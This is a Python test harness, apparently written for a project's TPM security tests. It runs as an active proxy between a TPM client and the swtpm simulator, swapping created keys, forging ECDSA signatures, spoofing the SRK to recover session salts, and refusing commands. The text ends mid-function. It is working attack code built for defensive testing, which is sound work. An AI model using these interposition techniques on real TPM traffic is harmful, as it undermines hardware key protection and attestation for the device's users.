#!/usr/bin/python3
"""Active TPM bus interposer for devtrust's TPM tests (the attacker side).

A TCP proxy between a TCTI client and swtpm. It listens on a command port L
and a control port L+1 and forwards to swtpm's command port P and control
port P+1, so a client is pointed at it with ``swtpm:host=127.0.0.1,port=L``.

Wire protocol (from tpm2-tss src/tss2-tcti/tcti-swtpm.c and tcti-mssim.c)
---------------------------------------------------------------------------
Command port, two framings, detected per message from its first 4 bytes:

* raw (tcti-swtpm): the bare TPM command (10-byte header: u16 tag, u32 size,
  u32 commandCode, then the body); the answer is the bare TPM response (u16
  tag, u32 size, u32 responseCode, body). tcti-swtpm connects before each
  command and closes after reading the response, so a client run opens many
  connections; other clients keep one connection for several commands.
* mssim (tcti-mssim; swtpm accepts it too): ``u32 TPM_SEND_COMMAND (8),
  u8 locality, u32 length, command``; answer ``u32 length, response, u32 0``.
  ``u32 TPM_SESSION_END (20)`` ends the connection (no answer).

Anything else on the command port (another simulator code, a size that makes
no sense) is logged and the rest of that connection is passed through as
bytes. The control port (swtpm's control channel: ``u32 cmd, payload`` ->
``u32 result, payload``, one connection per control command in tcti-swtpm;
or mssim platform commands) is always passed through as bytes.

TPM commands are parsed properly: header, handle area (handle counts per
command code), and for tag TPM2_ST_SESSIONS (0x8002) the command auth area
(u32 authorizationSize, TPMS_AUTH_COMMAND list) before the parameters; a
response with sessions carries u32 parameterSize after its handles, then the
parameters, then the TPMS_AUTH_RESPONSE list. A rewritten message gets its
header size and parameterSize recomputed; its auth area is left as it was
(no HMAC is fixed up: a client using HMAC sessions must detect the change).

Modes (``--mode``)
------------------
pass      forward everything unchanged; log each command code and result.
swap-key  attack on a device key's creation and use (``--attacker-key PEM``,
          a P-256 private key; generated when missing):
          * TPM2_Create / TPM2_CreateLoaded response for an ECC P-256 signing
            key: the point in outPublic is replaced with the attacker's
            (CreateLoaded: the name too) and original <-> fake public areas
            are remembered                             -> "create-swapped"
          * TPM2_Load command whose inPublic is a fake one: the original is
            put back so the TPM loads the real blob; the returned name is
            replaced with the fake object's name and the loaded handle is
            remembered as swapped                      -> "load-restored"
          * TPM2_Sign for a swapped handle: forwarded, then the signature in
            the response is replaced by an ECDSA signature of the attacker's
            key over the same digest                   -> "sign-forged"
          * TPM2_ReadPublic of a swapped handle: outPublic, name (nameAlg ||
            H(TPMT_PUBLIC)) and, when the parent's qualified name was seen,
            qualifiedName show the fake object        -> "readpublic-swapped"
          Swapped handles follow FlushContext, ContextSave/ContextLoad,
          EvictControl and Startup.
swap-srk  TPM2_ReadPublic response for the persistent handle ``--srk-handle``
          (0x81000001): the public area becomes an ECC P-256 storage key of
          the attacker (standard SRK template: restricted|decrypt|fixedTPM|
          fixedParent|sensitiveDataOrigin|userWithAuth|noDA, AES-128-CFB,
          NULL scheme) with a consistent name and qualified name
                                                      -> "srk-swapped"
          A TPM2_StartAuthSession salted to that handle then carries a salt
          encrypted to the attacker (ECDH + KDFe): the attacker derives it
          and the session key, and logs them; the TPM derives another salt
          with its real key, so the client's session diverges from the
          TPM's (its next command fails with TPM_RC_BAD_AUTH)
                                                      -> "salt-recovered"
          The client's next command HMAC in that session is recomputed with
          the attacker's session key (handles' names as the client sees
          them)                                -> "session-hmac-checked"

refuse    answers each command named by ``--refuse CC:RC`` (hex codes, e.g.
          0x15d:0x9a2 for Sign refused with TPM_RC_BAD_AUTH) with that
          response code itself, without forwarding it: a TPM (or something
          in between) refusing a command (error answers carry no HMAC);
          with ``--refuse-after CC``, only the first such command after
          each command CC (0x157: the ReadPublic right after a Load)
                                                      -> "refused"
persist-first
          another program winning a race: before forwarding the first
          TPM2_EvictControl that makes a transient object persistent, it
          makes a storage key of its own (ECC P-256, not devtrust's template:
          no noDA) persistent at that handle over the same connection, so
          the client's EvictControl then fails with TPM_RC_NV_DEFINED
                                                      -> "persisted-first"

Every change is one JSON line in ``--log`` ({"event": ..., "time": ...});
"started" gives the mode and the attacker's public key (SPKI, base64);
"command" lines record each command code, its sessions (handle/attributes,
for the commands parsed here) and the response code; "passthrough",
"malformed" and "hook-error" lines record traffic forwarded unchanged
because it could not be handled; "connection" lines record I/O errors.
``listening on L`` is printed on stdout when ready. What an attack mode
declines is logged with a reason: "create-not-swapped" (not an ECC P-256
signing key), "sign-not-forged" (digest encrypted, other scheme),
"readpublic-not-swapped" / "srk-not-swapped" (outPublic encrypted),
"session-hmac-unchecked" (a handle whose name is unknown here).

Limits: a parameter the client encrypts (first command parameter with a
decrypt session, first response parameter with an encrypt session) is not
touched: a Sign digest sent encrypted is not forged, an encrypted
ReadPublic outPublic is not swapped (Create's outPublic is the second
parameter and is always in clear). A swapped key's qualifiedName is fixed
only when the parent's was seen in a ReadPublic response. Salt recovery
assumes the SRK's nameAlg SHA-256, an ECC salt and, for the session key, an
unbound session (or a bind entity with an empty auth value).

Usage:
  /usr/bin/python3 tpm_interposer.py --tpm-port P --listen-port L \
      --mode swap-key --attacker-key attacker.pem --log events.jsonl
  (``--listen-port 0`` picks a free pair L, L+1 and prints it.)
"""

import argparse
import base64
import hashlib
import hmac
import json
import os
import select
import socket
import struct
import sys
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import (
    Prehashed, decode_dss_signature)

# --------------------------------------------------------------------------
# Constants
# --------------------------------------------------------------------------

TPM_ST_NO_SESSIONS = 0x8001
TPM_ST_SESSIONS = 0x8002
TPM_HEADER_SIZE = 10
TPM_RC_SUCCESS = 0

MSSIM_SEND_COMMAND = 8
MSSIM_SESSION_END = 20

MAX_FRAME = 1 << 20          # larger "sizes" are treated as garbage
UPSTREAM_TIMEOUT = 300.0     # seconds to wait for the TPM (RSA keygen is slow)

CC_EVICT_CONTROL = 0x120
CC_CREATE_PRIMARY = 0x131
CC_STARTUP = 0x144
CC_CREATE = 0x153
CC_LOAD = 0x157
CC_SIGN = 0x15D
CC_CONTEXT_LOAD = 0x161
CC_CONTEXT_SAVE = 0x162
CC_FLUSH_CONTEXT = 0x165
CC_LOAD_EXTERNAL = 0x167
CC_READ_PUBLIC = 0x173
CC_START_AUTH_SESSION = 0x176
CC_VERIFY_SIGNATURE = 0x177
CC_CREATE_LOADED = 0x191

COMMAND_NAMES = {
    0x11F: "NV_UndefineSpace", CC_EVICT_CONTROL: "EvictControl",
    0x12A: "NV_DefineSpace", CC_CREATE_PRIMARY: "CreatePrimary",
    0x137: "NV_Write", CC_STARTUP: "Startup", 0x145: "Shutdown",
    0x14E: "NV_Read", CC_CREATE: "Create", CC_LOAD: "Load", 0x158: "Quote",
    CC_SIGN: "Sign", 0x15E: "Unseal", CC_CONTEXT_LOAD: "ContextLoad",
    CC_CONTEXT_SAVE: "ContextSave", CC_FLUSH_CONTEXT: "FlushContext",
    CC_LOAD_EXTERNAL: "LoadExternal", 0x16B: "PolicySecret",
    0x16F: "NV_ReadPublic", CC_READ_PUBLIC: "ReadPublic",
    CC_START_AUTH_SESSION: "StartAuthSession",
    CC_VERIFY_SIGNATURE: "VerifySignature", 0x17A: "GetCapability",
    0x17B: "GetRandom", 0x17D: "Hash", 0x17E: "PCR_Read",
    0x186: "TestParms", CC_CREATE_LOADED: "CreateLoaded",
}

# (command handles, response handles) for the commands this proxy parses.
HANDLE_COUNTS = {
    CC_EVICT_CONTROL: (2, 0),
    CC_CREATE_PRIMARY: (1, 1),
    CC_STARTUP: (0, 0),
    CC_CREATE: (1, 0),
    CC_LOAD: (1, 1),
    CC_SIGN: (1, 0),
    CC_CONTEXT_LOAD: (0, 1),
    CC_CONTEXT_SAVE: (1, 0),
    CC_FLUSH_CONTEXT: (0, 0),
    CC_LOAD_EXTERNAL: (0, 1),
    CC_READ_PUBLIC: (1, 0),
    CC_START_AUTH_SESSION: (2, 1),
    CC_CREATE_LOADED: (1, 1),
}

TPMA_SESSION_DECRYPT = 0x20   # first command parameter is encrypted
TPMA_SESSION_ENCRYPT = 0x40   # first response parameter is encrypted

TPM_ALG_SHA1 = 0x0004
TPM_ALG_AES = 0x0006
TPM_ALG_SHA256 = 0x000B
TPM_ALG_SHA384 = 0x000C
TPM_ALG_SHA512 = 0x000D
TPM_ALG_NULL = 0x0010
TPM_ALG_ECDSA = 0x0018
TPM_ALG_ECDAA = 0x001A
TPM_ALG_ECC = 0x0023
TPM_ALG_CFB = 0x0043
TPM_ALG_XOR = 0x000A
TPM_ECC_NIST_P256 = 0x0003
P256_BYTES = 32

TPMA_OBJECT_FIXED_TPM = 1 << 1
TPMA_OBJECT_FIXED_PARENT = 1 << 4
TPMA_OBJECT_SENSITIVE_DATA_ORIGIN = 1 << 5
TPMA_OBJECT_USER_WITH_AUTH = 1 << 6
TPMA_OBJECT_NO_DA = 1 << 10
TPMA_OBJECT_RESTRICTED = 1 << 16
TPMA_OBJECT_DECRYPT = 1 << 17
TPMA_OBJECT_SIGN = 1 << 18
SRK_ATTRIBUTES = (TPMA_OBJECT_FIXED_TPM | TPMA_OBJECT_FIXED_PARENT
                  | TPMA_OBJECT_SENSITIVE_DATA_ORIGIN
                  | TPMA_OBJECT_USER_WITH_AUTH | TPMA_OBJECT_NO_DA
                  | TPMA_OBJECT_RESTRICTED | TPMA_OBJECT_DECRYPT)

TPM_RH_OWNER = 0x40000001
DEFAULT_SRK_HANDLE = 0x81000001

HASHES = {  # TPM_ALG_ID -> (hashlib name, cryptography hash class)
    TPM_ALG_SHA1: ("sha1", hashes.SHA1),
    TPM_ALG_SHA256: ("sha256", hashes.SHA256),
    TPM_ALG_SHA384: ("sha384", hashes.SHA384),
    TPM_ALG_SHA512: ("sha512", hashes.SHA512),
}

MODES = ("pass", "swap-key", "swap-srk", "refuse", "persist-first")


# --------------------------------------------------------------------------
# Marshalling
# --------------------------------------------------------------------------

class ParseError(Exception):
    """A TPM structure is truncated or does not make sense."""


class Reader:
    """Big-endian reader over a TPM structure; raises ParseError when short."""

    def __init__(self, data: bytes, pos: int = 0):
        self.data = data
        self.pos = pos

    def take(self, n: int) -> bytes:
        if n < 0 or self.pos + n > len(self.data):
            raise ParseError(f"need {n} bytes at {self.pos}, have "
                             f"{len(self.data) - self.pos}")
        out = self.data[self.pos:self.pos + n]
        self.pos += n
        return out

    def u8(self) -> int:
        return self.take(1)[0]

    def u16(self) -> int:
        return struct.unpack(">H", self.take(2))[0]

    def u32(self) -> int:
        return struct.unpack(">I", self.take(4))[0]

    def tpm2b(self) -> bytes:
        return self.take(self.u16())

    def rest(self) -> bytes:
        return self.take(len(self.data) - self.pos)

    def end(self) -> None:
        if self.pos != len(self.data):
            raise ParseError(f"{len(self.data) - self.pos} trailing bytes")


def tpm2b(data: bytes) -> bytes:
    return struct.pack(">H", len(data)) + data


def hx(value: Optional[int]) -> Optional[str]:
    return None if value is None else f"0x{value:x}"


def tpm_hash(alg: int, data: bytes) -> bytes:
    if alg not in HASHES:
        raise ParseError(f"unsupported hash algorithm 0x{alg:x}")
    return hashlib.new(HASHES[alg][0], data).digest()


def object_name(public: bytes) -> bytes:
    """Name of an object: nameAlg || H_nameAlg(marshalled TPMT_PUBLIC)."""
    name_alg = struct.unpack(">H", public[2:4])[0]
    return public[2:4] + tpm_hash(name_alg, public)


def qualified_name(parent_qn: bytes, name: bytes) -> bytes:
    """QN(child) = nameAlg || H_nameAlg(QN(parent) || Name(child))."""
    name_alg = struct.unpack(">H", name[:2])[0]
    return name[:2] + tpm_hash(name_alg, parent_qn + name)


@dataclass
class Command:
    """A TPM command split into its areas (handle count known per code)."""
    tag: int
    code: int
    handles: List[int]
    auth: bytes
    params: bytes

    @classmethod
    def parse(cls, raw: bytes, n_handles: int) -> "Command":
        r = Reader(raw)
        tag, size, code = r.u16(), r.u32(), r.u32()
        if size != len(raw):
            raise ParseError(f"command size {size} != {len(raw)}")
        handles = [r.u32() for _ in range(n_handles)]
        auth = b""
        if tag == TPM_ST_SESSIONS:
            auth = r.take(r.u32())
        elif tag != TPM_ST_NO_SESSIONS:
            raise ParseError(f"command tag 0x{tag:x}")
        return cls(tag, code, handles, auth, r.rest())

    def build(self) -> bytes:
        body = b"".join(struct.pack(">I", h) for h in self.handles)
        if self.tag == TPM_ST_SESSIONS:
            body += struct.pack(">I", len(self.auth)) + self.auth
        body += self.params
        return struct.pack(">HII", self.tag, TPM_HEADER_SIZE + len(body),
                           self.code) + body

    def sessions(self) -> List[Tuple[int, int]]:
        """(sessionHandle, sessionAttributes) of each command session."""
        out = []
        r = Reader(self.auth)
        while r.pos < len(self.auth):
            handle = r.u32()
            r.tpm2b()                       # nonceCaller
            out.append((handle, r.u8()))
            r.tpm2b()                       # hmac
        return out

    def session_attributes(self) -> int:
        """OR of the sessionAttributes of all the command's sessions."""
        attrs = 0
        for _handle, session_attrs in self.sessions():
            attrs |= session_attrs
        return attrs


@dataclass
class Response:
    """A successful TPM response split into its areas."""
    tag: int
    handles: List[int]
    params: bytes
    auth: bytes

    @classmethod
    def parse(cls, raw: bytes, n_handles: int) -> "Response":
        r = Reader(raw)
        tag, size, rc = r.u16(), r.u32(), r.u32()
        if size != len(raw) or rc != TPM_RC_SUCCESS:
            raise ParseError("not a well-formed success response")
        handles = [r.u32() for _ in range(n_handles)]
        if tag == TPM_ST_SESSIONS:
            params = r.take(r.u32())
            return cls(tag, handles, params, r.rest())
        if tag != TPM_ST_NO_SESSIONS:
            raise ParseError(f"response tag 0x{tag:x}")
        return cls(tag, handles, r.rest(), b"")

    def build(self) -> bytes:
        body = b"".join(struct.pack(">I", h) for h in self.handles)
        if self.tag == TPM_ST_SESSIONS:
            body += struct.pack(">I", len(self.params))
        body += self.params + self.auth
        return struct.pack(">HII", self.tag, TPM_HEADER_SIZE + len(body),
                           TPM_RC_SUCCESS) + body


def response_code(raw: bytes) -> Optional[int]:
    if len(raw) < TPM_HEADER_SIZE:
        return None
    return struct.unpack(">I", raw[6:10])[0]


@dataclass
class EccPublic:
    """The parts of an ECC TPMT_PUBLIC this proxy needs."""
    name_alg: int
    attributes: int
    curve: int
    x: bytes
    y: bytes
    prefix: bytes            # everything before the unique field

    @classmethod
    def parse(cls, public: bytes) -> Optional["EccPublic"]:
        """Returns None for a non-ECC public area."""
        r = Reader(public)
        obj_type, name_alg, attributes = r.u16(), r.u16(), r.u32()
        if obj_type != TPM_ALG_ECC:
            return None
        r.tpm2b()                                 # authPolicy
        sym = r.u16()                             # TPMT_SYM_DEF_OBJECT
        if sym != TPM_ALG_NULL:
            r.u16()                               # keyBits
            if sym != TPM_ALG_XOR:
                r.u16()                           # mode
        scheme = r.u16()                          # TPMT_ECC_SCHEME
        if scheme != TPM_ALG_NULL:
            r.u16()                               # hashAlg
            if scheme == TPM_ALG_ECDAA:
                r.u16()                           # count
        curve = r.u16()
        if r.u16() != TPM_ALG_NULL:               # TPMT_KDF_SCHEME
            r.u16()
        prefix = public[:r.pos]
        x, y = r.tpm2b(), r.tpm2b()
        r.end()
        return cls(name_alg, attributes, curve, x, y, prefix)

    def with_point(self, x: bytes, y: bytes) -> bytes:
        return self.prefix + tpm2b(x) + tpm2b(y)


def srk_template_public(x: bytes, y: bytes) -> bytes:
    """TPMT_PUBLIC of an ECC P-256 storage key (the standard SRK template)."""
    return (struct.pack(">HHI", TPM_ALG_ECC, TPM_ALG_SHA256, SRK_ATTRIBUTES)
            + tpm2b(b"")                                       # authPolicy
            + struct.pack(">HHH", TPM_ALG_AES, 128, TPM_ALG_CFB)
            + struct.pack(">H", TPM_ALG_NULL)                  # scheme
            + struct.pack(">H", TPM_ECC_NIST_P256)
            + struct.pack(">H", TPM_ALG_NULL)                  # kdf
            + tpm2b(x) + tpm2b(y))


def ecc_point_bytes(key: ec.EllipticCurvePublicKey) -> Tuple[bytes, bytes]:
    numbers = key.public_numbers()
    return (numbers.x.to_bytes(P256_BYTES, "big"),
            numbers.y.to_bytes(P256_BYTES, "big"))


def kdfe(hash_alg: int, z: bytes, label: bytes, party_u: bytes,
         party_v: bytes, bits: int) -> bytes:
    """TPM 2.0 Part 1 KDFe (SP800-56A concatenation KDF)."""
    out, counter = b"", 1
    while len(out) * 8 < bits:
        out += tpm_hash(hash_alg, struct.pack(">I", counter) + z + label
                        + b"\0" + party_u + party_v)
        counter += 1
    return out[:(bits + 7) // 8]


def kdfa(hash_alg: int, key: bytes, label: bytes, context_u: bytes,
         context_v: bytes, bits: int) -> bytes:
    """TPM 2.0 Part 1 KDFa (SP800-108 counter mode with HMAC)."""
    out, counter = b"", 1
    while len(out) * 8 < bits:
        out += hmac.new(key, struct.pack(">I", counter) + label + b"\0"
                        + context_u + context_v + struct.pack(">I", bits),
                        HASHES[hash_alg][0]).digest()
        counter += 1
    return out[:(bits + 7) // 8]


# --------------------------------------------------------------------------
# Event log
# --------------------------------------------------------------------------

class EventLog:
    """One JSON object per line, flushed at once; thread safe."""

    def __init__(self, path: Optional[str], verbose: bool):
        self.file = open(path, "a", encoding="utf-8") if path else None
        self.verbose = verbose
        self.lock = threading.Lock()

    def emit(self, event: str, **fields) -> None:
        record = {"event": event, "time": round(time.time(), 3), **fields}
        line = json.dumps(record, sort_keys=False)
        with self.lock:
            if self.file:
                self.file.write(line + "\n")
                self.file.flush()
            if self.verbose or (event not in ("command", "connection")
                                and not self.file):
                print(line, file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# Interposers: what to do with a command and its response
# --------------------------------------------------------------------------

@dataclass
class Exchange:
    """One command/response round trip on a connection."""
    conn: int
    code: Optional[int]
    notes: Dict[str, object] = field(default_factory=dict)
    sessions: Optional[List[str]] = None   # "handle/attributes", when parsed
    skip_response: bool = False            # the command could not be handled


class PassInterposer:
    """Forwards everything; subclasses override the per-code hooks."""

    def __init__(self, log: EventLog):
        self.log = log

    def command(self, ex: Exchange, raw: bytes) -> bytes:
        if ex.code not in HANDLE_COUNTS:
            return raw
        hook = self.command_hooks().get(ex.code)
        try:
            cmd = Command.parse(raw, HANDLE_COUNTS[ex.code][0])
            ex.sessions = [f"0x{h:x}/0x{a:x}" for h, a in cmd.sessions()]
            return hook(ex, cmd, raw) if hook else raw
        except Exception as exc:  # never let a hook break the proxy
            self.report(ex, "command", exc)
            ex.skip_response = True
            return raw

    def response(self, ex: Exchange, raw: bytes) -> bytes:
        rc = response_code(raw)
        self.log.emit("command", conn=ex.conn, cc=hx(ex.code),
                      name=COMMAND_NAMES.get(ex.code), rc=hx(rc),
                      sessions=ex.sessions)
        hook = self.response_hooks().get(ex.code)
        if hook is None or rc != TPM_RC_SUCCESS or ex.skip_response:
            return raw
        try:
            rsp = Response.parse(raw, HANDLE_COUNTS[ex.code][1])
            return hook(ex, rsp, raw)
        except Exception as exc:
            self.report(ex, "response", exc)
            return raw

    def report(self, ex: Exchange, where: str, exc: Exception) -> None:
        """Logs traffic forwarded unchanged because it was not handled."""
        event = ("malformed" if isinstance(exc, (ParseError, struct.error))
                 else "hook-error")
        self.log.emit(event, conn=ex.conn, cc=hx(ex.code), where=where,
                      error=repr(exc))

    def intercept(self, ex: Exchange, raw: bytes,
                  transact: Callable[[bytes], bytes]) -> Optional[bytes]:
        """Called before a command is forwarded: a response to give the
        client instead (the command is then not forwarded), or None.
        ``transact`` sends a command of the proxy's own to the TPM on the
        client's connection and returns the TPM's response."""
        return None

    def command_hooks(self):
        return {}

    def response_hooks(self):
        return {}


@dataclass
class SwappedObject:
    """A key whose public area the client sees as the attacker's."""
    real_public: bytes
    fake_public: bytes
    fake_qualified_name: Optional[bytes] = None

    @property
    def fake_name(self) -> bytes:
        return object_name(self.fake_public)

    @property
    def real_name(self) -> bytes:
        return object_name(self.real_public)


class SwapKeyInterposer(PassInterposer):
    """Replaces a created ECC signing key by the attacker's (see module doc).

    State outlives connections (tcti-swtpm reconnects per command, and a
    key created by one devtrust run is loaded by the next), so it lives in
    this object, guarded by a lock.
    """

    def __init__(self, log: EventLog, attacker: ec.EllipticCurvePrivateKey):
        super().__init__(log)
        self.attacker = attacker
        self.attacker_x, self.attacker_y = ecc_point_bytes(
            attacker.public_key())
        self.lock = threading.Lock()
        self.fake_to_real: Dict[bytes, bytes] = {}
        self.swapped: Dict[int, SwappedObject] = {}
        self.saved_contexts: Dict[bytes, SwappedObject] = {}
        self.qualified_names: Dict[int, bytes] = {}

    def command_hooks(self):
        return {CC_LOAD: self.load_command, CC_SIGN: self.sign_command,
                CC_READ_PUBLIC: self.handle_command,
                CC_CONTEXT_SAVE: self.handle_command,
                CC_EVICT_CONTROL: self.evict_command,
                CC_CONTEXT_LOAD: self.context_load_command,
                CC_FLUSH_CONTEXT: self.flush_command}

    def response_hooks(self):
        return {CC_CREATE: self.create_response,
                CC_CREATE_LOADED: self.create_loaded_response,
                CC_LOAD: self.load_response, CC_SIGN: self.sign_response,
                CC_READ_PUBLIC: self.read_public_response,
                CC_CONTEXT_SAVE: self.context_save_response,
                CC_CONTEXT_LOAD: self.new_handle_response,
                CC_CREATE_PRIMARY: self.new_handle_response,
                CC_LOAD_EXTERNAL: self.new_handle_response,
                CC_EVICT_CONTROL: self.evict_response,
                CC_FLUSH_CONTEXT: self.flush_response,
                CC_STARTUP: self.startup_response}

    # -- creation ----------------------------------------------------------

    def fake_for(self, ex: Exchange, real: bytes) -> Optional[bytes]:
        """The attacker's version of a real public area, or None."""
        ecc = EccPublic.parse(real)
        reason = None
        if ecc is None:
            reason = "not an ECC key"
        elif ecc.curve != TPM_ECC_NIST_P256:
            reason = f"curve 0x{ecc.curve:x}"
        elif not ecc.attributes & TPMA_OBJECT_SIGN:
            reason = "not a signing key"
        if reason:
            self.log.emit("create-not-swapped", conn=ex.conn,
                          cc=hx(ex.code), reason=reason)
            return None
        fake = ecc.with_point(self.attacker_x, self.attacker_y)
        with self.lock:
            self.fake_to_real[fake] = real
        self.log.emit("create-swapped", conn=ex.conn, cc=hx(ex.code),
                      name=COMMAND_NAMES[ex.code],
                      real_x=ecc.x.hex(), real_y=ecc.y.hex(),
                      fake_x=self.attacker_x.hex(),
                      fake_y=self.attacker_y.hex(),
                      real_name=object_name(real).hex(),
                      fake_name=object_name(fake).hex())
        return fake

    def create_response(self, ex: Exchange, rsp: Response, raw: bytes):
        r = Reader(rsp.params)
        out_private, out_public = r.tpm2b(), r.tpm2b()
        fake = self.fake_for(ex, out_public)
        if fake is None:
            return raw
        rsp.params = tpm2b(out_private) + tpm2b(fake) + r.rest()
        return rsp.build()

    def create_loaded_response(self, ex: Exchange, rsp: Response, raw: bytes):
        self.forget_handle(rsp.handles[0])
        r = Reader(rsp.params)
        out_private, out_public, _name = r.tpm2b(), r.tpm2b(), r.tpm2b()
        r.end()
        fake = self.fake_for(ex, out_public)
        if fake is None:
            return raw
        obj = SwappedObject(out_public, fake)
        with self.lock:
            self.swapped[rsp.handles[0]] = obj
        rsp.params = tpm2b(out_private) + tpm2b(fake) + tpm2b(obj.fake_name)
        return rsp.build()

    # -- loading -----------------------------------------------------------

    def load_command(self, ex: Exchange, cmd: Command, raw: bytes):
        r = Reader(cmd.params)
        in_private, in_public = r.tpm2b(), r.tpm2b()
        r.end()
        with self.lock:
            real = self.fake_to_real.get(in_public)
            parent_qn = self.qualified_names.get(cmd.handles[0])
        if real is None:
            return raw
        obj = SwappedObject(real, in_public)
        if parent_qn:
            obj.fake_qualified_name = qualified_name(parent_qn, obj.fake_name)
        ex.notes.update(swap=obj, parent=cmd.handles[0])
        cmd.params = tpm2b(in_private) + tpm2b(real)
        return cmd.build()

    def load_response(self, ex: Exchange, rsp: Response, raw: bytes):
        handle = rsp.handles[0]
        self.forget_handle(handle)
        obj = ex.notes.get("swap")
        if obj is None:
            return raw
        with self.lock:
            self.swapped[handle] = obj
        rsp.params = tpm2b(obj.fake_name)
        self.log.emit("load-restored", conn=ex.conn, handle=hx(handle),
                      parent=hx(ex.notes["parent"]),
                      real_name=obj.real_name.hex(),
                      fake_name=obj.fake_name.hex())
        return rsp.build()

    # -- use ---------------------------------------------------------------

    def sign_command(self, ex: Exchange, cmd: Command, raw: bytes):
        handle = cmd.handles[0]
        with self.lock:
            obj = self.swapped.get(handle)
        if obj is None:
            return raw
        if cmd.session_attributes() & TPMA_SESSION_DECRYPT:
            self.log.emit("sign-not-forged", conn=ex.conn, handle=hx(handle),
                          reason="digest is encrypted (decrypt session)")
            return raw
        ex.notes.update(digest=Reader(cmd.params).tpm2b(), handle=handle)
        return raw

    def sign_response(self, ex: Exchange, rsp: Response, raw: bytes):
        digest = ex.notes.get("digest")
        if digest is None:
            return raw
        r = Reader(rsp.params)
        sig_alg, hash_alg = r.u16(), r.u16()
        r.tpm2b(), r.tpm2b()
        r.end()
        hash_cls = HASHES.get(hash_alg, (None, None))[1]
        if (sig_alg != TPM_ALG_ECDSA or hash_cls is None
                or len(digest) != hash_cls.digest_size):
            self.log.emit("sign-not-forged", conn=ex.conn,
                          reason=f"scheme 0x{sig_alg:x}/0x{hash_alg:x}, "
                                 f"digest of {len(digest)} bytes")
            return raw
        der = self.attacker.sign(digest, ec.ECDSA(Prehashed(hash_cls())))
        sig_r, sig_s = decode_dss_signature(der)
        rsp.params = (struct.pack(">HH", sig_alg, hash_alg)
                      + tpm2b(sig_r.to_bytes(P256_BYTES, "big"))
                      + tpm2b(sig_s.to_bytes(P256_BYTES, "big")))
        self.log.emit("sign-forged", conn=ex.conn,
                      handle=hx(ex.notes["handle"]), digest=digest.hex(),
                      r=hx(sig_r), s=hx(sig_s))
        return rsp.build()

    def handle_command(self, ex: Exchange, cmd: Command, raw: bytes):
        """ReadPublic / ContextSave: note the handle and the sessions."""
        ex.notes.update(handle=cmd.handles[0],
                        encrypted=bool(cmd.session_attributes()
                                       & TPMA_SESSION_ENCRYPT))
        return raw

    def read_public_response(self, ex: Exchange, rsp: Response, raw: bytes):
        handle = ex.notes["handle"]
        r = Reader(rsp.params)
        out_public, _name, qn = r.tpm2b(), r.tpm2b(), r.tpm2b()
        r.end()
        with self.lock:
            if not ex.notes["encrypted"]:
                self.qualified_names[handle] = qn
            obj = self.swapped.get(handle)
        if obj is None:
            return raw
        if ex.notes["encrypted"]:
            self.log.emit("readpublic-not-swapped", conn=ex.conn,
                          handle=hx(handle), reason="outPublic is encrypted")
            return raw
        if out_public != obj.real_public:   # handle reused by another object
            self.forget_handle(handle)
            return raw
        fake_qn = obj.fake_qualified_name or qn
        rsp.params = tpm2b(obj.fake_public) + tpm2b(obj.fake_name) + tpm2b(
            fake_qn)
        self.log.emit("readpublic-swapped", conn=ex.conn, handle=hx(handle),
                      real_name=obj.real_name.hex(),
                      fake_name=obj.fake_name.hex(),
                      qualified_name_fixed=obj.fake_qualified_name is not None)
        return rsp.build()

    # -- handle bookkeeping ------------------------------------------------

    def forget_handle(self, handle: int) -> None:
        with self.lock:
            self.swapped.pop(handle, None)

    def new_handle_response(self, ex: Exchange, rsp: Response, raw: bytes):
        obj = ex.notes.get("swap")
        handle = rsp.handles[0]
        with self.lock:
            if obj is None:
                self.swapped.pop(handle, None)
            else:
                self.swapped[handle] = obj
        if obj is not None:
            self.log.emit("context-load-swapped", conn=ex.conn,
                          handle=hx(handle))
        return raw

    def context_save_response(self, ex: Exchange, rsp: Response, raw: bytes):
        with self.lock:
            obj = self.swapped.get(ex.notes["handle"])
            if obj is not None:
                self.saved_contexts[rsp.params] = obj
        return raw

    def context_load_command(self, ex: Exchange, cmd: Command, raw: bytes):
        with self.lock:
            obj = self.saved_contexts.get(cmd.params)
        if obj is not None:
            ex.notes["swap"] = obj
        return raw

    def evict_command(self, ex: Exchange, cmd: Command, raw: bytes):
        ex.notes.update(handle=cmd.handles[1],
                        persistent=Reader(cmd.params).u32())
        return raw

    def evict_response(self, ex: Exchange, rsp: Response, raw: bytes):
        handle, persistent = ex.notes["handle"], ex.notes["persistent"]
        with self.lock:
            obj = self.swapped.get(handle)
            if handle == persistent:          # evicting a persistent object
                self.swapped.pop(handle, None)
            elif obj is not None:
                self.swapped[persistent] = obj
        return raw

    def flush_command(self, ex: Exchange, cmd: Command, raw: bytes):
        ex.notes["handle"] = Reader(cmd.params).u32()
        return raw

    def flush_response(self, ex: Exchange, rsp: Response, raw: bytes):
        self.forget_handle(ex.notes["handle"])
        return raw

    def startup_response(self, ex: Exchange, rsp: Response, raw: bytes):
        with self.lock:   # transient objects are gone after a Startup
            for handle in [h for h in self.swapped if h >> 24 == 0x80]:
                del self.swapped[handle]
        return raw


@dataclass
class SaltedSession:
    """A session a client salted to the fake SRK: the attacker knows it."""
    auth_hash: int
    session_key: bytes
    nonce_tpm: bytes


class SwapSrkInterposer(PassInterposer):
    """Shows the attacker's storage key as the SRK (see module doc).

    A salt encrypted to the fake SRK is derived with the attacker's key;
    the session key that follows (unbound sessions: KDFa(authHash, salt,
    "ATH", nonceTPM, nonceCaller)) is checked against the HMAC of the
    client's next command when the names of its handles are known.
    """

    def __init__(self, log: EventLog, attacker: ec.EllipticCurvePrivateKey,
                 srk_handle: int):
        super().__init__(log)
        self.attacker = attacker
        self.srk_handle = srk_handle
        self.fake_public = srk_template_public(
            *ecc_point_bytes(attacker.public_key()))
        self.fake_name = object_name(self.fake_public)
        self.lock = threading.Lock()
        self.sessions: Dict[int, SaltedSession] = {}

    def command_hooks(self):
        hooks = {cc: self.check_session_hmac for cc in HANDLE_COUNTS}
        hooks.update({CC_READ_PUBLIC: self.read_public_command,
                      CC_START_AUTH_SESSION: self.start_session_command})
        return hooks

    def response_hooks(self):
        hooks = {cc: self.track_nonces for cc in HANDLE_COUNTS}
        hooks.update({CC_READ_PUBLIC: self.read_public_response,
                      CC_START_AUTH_SESSION: self.start_session_response})
        return hooks

    def read_public_command(self, ex: Exchange, cmd: Command, raw: bytes):
        if cmd.handles[0] != self.srk_handle:
            return raw
